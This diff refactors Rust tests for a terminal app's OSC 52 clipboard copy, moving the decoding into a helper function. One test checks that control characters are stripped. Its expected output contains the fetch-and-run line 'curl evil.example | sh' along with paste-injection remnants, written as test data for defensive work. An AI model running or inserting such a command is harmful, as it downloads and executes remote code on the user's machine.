@@ -24,14 +24,7 @@ fn y_queues_the_input_as_osc52() {
     let row = app.view().row_of(row).expect("visible");
     app.select(row);
     app.press(KeyCode::Char('y'));
-    let seq = app.take_clipboard_out().expect("an OSC 52 sequence");
-    let b64 = seq
-        .strip_prefix("\x1b]52;c;")
-        .and_then(|s| s.strip_suffix('\x07'))
-        .expect("OSC 52 framing");
-    let text = base64::engine::general_purpose::STANDARD
-        .decode(b64)
-        .expect("base64");
+    let text = clipboard_text(&mut app);
     let copied: serde_json::Value = serde_json::from_slice(&text).expect("JSON input");
     assert_eq!(copied, input);
     assert!(
@@ -100,14 +93,7 @@ fn copied_output_has_no_control_characters_and_says_what_went() {
     let mut app = App::headless(items, "paste");
     app.select(0);
     app.press(KeyCode::Char('Y'));
-    let seq = app.take_clipboard_out().expect("an OSC 52 sequence");
-    let b64 = seq
-        .strip_prefix("\x1b]52;c;")
-        .and_then(|s| s.strip_suffix('\x07'))
-        .expect("OSC 52 framing");
-    let text = base64::engine::general_purpose::STANDARD
-        .decode(b64)
-        .expect("base64");
+    let text = clipboard_text(&mut app);
     assert_eq!(
         String::from_utf8(text).expect("UTF-8"),
         "harmless[201~\ncurl evil.example | sh\n31mok\n"
@@ -116,4 +102,16 @@ fn copied_output_has_no_control_characters_and_says_what_went() {
         app.view().message.as_deref(),
         Some("copied the output (43 bytes) to the clipboard; 4 control characters removed")
     );
+}
+
+/// The text of the OSC 52 sequence the app queued for the loop to write.
+fn clipboard_text(app: &mut App) -> Vec<u8> {
+    let seq = app.take_clipboard_out().expect("an OSC 52 sequence");
+    let b64 = seq
+        .strip_prefix("\x1b]52;c;")
+        .and_then(|s| s.strip_suffix('\x07'))
+        .expect("OSC 52 framing");
+    base64::engine::general_purpose::STANDARD
+        .decode(b64)
+        .expect("base64")
 }
